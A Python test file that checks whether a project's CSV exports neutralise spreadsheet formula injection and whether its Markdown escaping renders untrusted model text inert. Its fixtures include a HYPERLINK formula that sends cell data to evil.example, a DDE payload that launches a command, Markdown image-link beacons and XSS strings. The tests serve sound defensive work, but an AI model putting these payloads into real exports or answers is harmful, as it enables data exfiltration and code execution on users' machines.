"""Untrusted text stays text: no CSV export opens as a live formula, Markdown escapes hold."""

from __future__ import annotations

import csv
import io

import pytest

from core.batch import RowResult, RowStatus
from core.batch.export import to_csv as batch_csv
from core.call.errors import CallProblem
from core.call.trace import CallTrace, Outcome
from core.money.costs import cost_calls, ledger_csv
from core.money.ledger import SessionLedger
from core.money.pricing import ModelPrice, PriceTable, load_price_table
from core.patterns.events import RecordedEvent
from core.patterns.events.exports import events_csv
from core.patterns.measure import runs_to_csv
from core.patterns.streaming import StreamRecord
from core.security.untrusted import answer_markdown, code_span, csv_cell, csv_text, escape_markdown
from tests.ledger_records import ledger_record

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_live_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not _is_number(cell)), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", STARTS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert _cells(csv_text(["c"], [[value]])) == ["c", "'" + value]


def test_figures_and_ordinary_text_are_kept_as_they_are() -> None:
    for value in (-0.25, 3, "-0.25", "1e-3", "+5", "plain answer", "a = b", ""):
        assert csv_cell(value) == value
    assert csv_cell(None) == ""


def test_every_csv_export_neutralises_a_model_answer_or_name_that_is_a_formula() -> None:
    # batch results: the model's answer and the prompt are user and model text
    row = RowResult(job_id="j", index=0, line=1, input="-2+3", status=RowStatus.DONE, output=EVIL, model="@m")
    exported = batch_csv([row])
    assert "'" + EVIL in _cells(exported) and "'-2+3" in _cells(exported)
    _no_live_formula(exported)
    # the priced ledger and the plain ledger: the model name comes from the endpoint
    record = ledger_record("r", "batch", "=provider", EVIL, 1.0, 0.5, None, "stop", error="+err")
    _no_live_formula(ledger_csv(cost_calls([record], load_price_table()), load_price_table()))
    ledger = SessionLedger()
    ledger.add(record)
    assert "'" + EVIL in _cells(ledger.to_csv())
    _no_live_formula(ledger.to_csv())
    # the events log: names and summaries hold model text
    event = RecordedEvent(0, 0.5, "on_chat_model_stream", "=name", "r1", (), ("@tag",), EVIL, data={})
    _no_live_formula(events_csv([event]))
    # measure runs: an endpoint's error message
    problem = CallProblem("unexpected", "=HYPERLINK(1)", "detail", "fix")
    _no_live_formula(runs_to_csv([StreamRecord("p", CallTrace("r", outcome=Outcome("failed", finish_reason="=stop", problem=problem)))]))
    # prices: model names are edited by the user, or come from a file
    table = PriceTable((ModelPrice("=cmd|' /C calc'!A0", "-x", 1.0, None, 2.0),), "2026-11", "test")
    exported = table.to_csv()
    assert "'=cmd|' /C calc'!A0" in _cells(exported)
    _no_live_formula(exported)


def test_the_exports_keep_their_columns() -> None:
    row = RowResult(job_id="j", index=0, line=1, input="hi", status=RowStatus.DONE, output="=1")
    header, values = batch_csv([row]).splitlines()
    assert len(next(csv.reader([header]))) == len(next(csv.reader([values])))


def test_markdown_escaping_shows_an_image_link_as_its_characters() -> None:
    escaped = escape_markdown("![x](https://evil.example/t.png) `code` *bold*\n# heading")
    assert "![" not in escaped and "](" not in escaped and "\n" not in escaped
    assert escaped.replace("\\", "") == "![x](https://evil.example/t.png) `code` *bold* # heading"


def test_a_code_span_is_not_closed_by_a_backtick_inside_it() -> None:
    span = code_span("oops` ![x](https://evil.example/t.png) `")
    fence = span.split(" ")[0]
    assert set(fence) == {"`"} and len(fence) == 2 and span.endswith(" " + fence)


NASTY = [
    "![t](https://evil.example/t.png)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>",
    "`code` and ``two``", "**bold** _it_ ~~gone~~", "# heading", "- item", "1. first", "a | b | c",
    "$x^2$", ":red[alert] :material/home: :smile:", "&lt;entity&gt;", "<https://evil.example>",
    "trailing backslash \\", "https://evil.example/path?q=1",
]


@pytest.mark.parametrize("text", NASTY)
def test_escaped_text_renders_as_exactly_its_characters(text: str) -> None:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(escape_markdown(text))
    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html
    assert "<strong>" not in html and "<h1>" not in html and "<li>" not in html
    inner = html.removeprefix("<p>").removesuffix("</p>\n")
    import html as html_lib

    assert html_lib.unescape(inner) == text


def test_an_answer_keeps_its_lines() -> None:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(answer_markdown("one\n- two\n![x](https://e.example/x.png)"))
    assert html.count("<br />") == 2 and "<img" not in html and "<li>" not in html
